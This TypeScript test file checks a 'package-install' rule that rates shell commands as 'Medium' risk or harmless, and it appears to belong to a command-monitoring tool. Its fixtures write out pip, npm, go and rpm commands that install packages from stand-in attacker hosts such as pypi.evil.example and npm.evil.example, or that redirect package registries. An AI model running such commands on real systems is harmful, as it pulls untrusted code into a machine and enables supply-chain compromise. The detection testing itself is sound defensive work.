import { ruleTable } from "../../../testing/rule-table.ts";

ruleTable("package-install", {
  steps: [["da2-13", "Medium"]],
  passes: [
    ["pip", "install requests"],
    ["npm", "ci"],
    ["npm", "install"],
    ["pip", "install -r requirements.txt"],
    ["npx", "eslint"],
  ],
  commands: [
    ["/usr/bin/pip", "install --index-url https://pypi.evil.example/simple x", "Medium"],
    ["/usr/bin/pip3", "install -i http://203.0.113.66/simple x", "Medium"],
    ["/usr/bin/pip", "install git+https://git.evil.example/x.git", "Medium"],
    ["/usr/bin/npm", "install --registry=https://npm.evil.example x", "Medium"],
    ["/usr/bin/npm", "i https://203.0.113.66/x.tgz", "Medium"],
    ["/usr/bin/pip", "install requests==2.31.0", "none"],
    ["/usr/bin/npm", "view react homepage", "none"],
    ["/usr/bin/go", "build ./...", "none"],
    ["/usr/local/bin/python", "-m pip install --index-url https://x/simple lib", "Medium"],
    ["/usr/bin/npm", "config set registry https://x/", "Medium"],
    ["/usr/bin/npm", "i github:a/b", "Medium"],
    ["/bin/bash", '-lc "PIP_INDEX_URL=https://x/simple pip install y"', "Medium"],
    ["/bin/bash", '-lc "GOPROXY=https://x go get y"', "Medium"],
    ["/usr/bin/apt-get", "install -y nmap", "Medium"],
    ["/usr/bin/rpm", "-i https://x/y.rpm", "Medium"],
    ["/usr/bin/apt-get", "install -y jq", "none"],
    ["/usr/bin/npm", "install ./packages/shared", "none"],
    ["/usr/bin/npm", "config get registry", "none"],
    ["/usr/bin/npx", "-y create-vite@latest app --template react-ts", "none"],
    ["/usr/bin/pip", "install -e .[dev]", "none"],
  ],
});
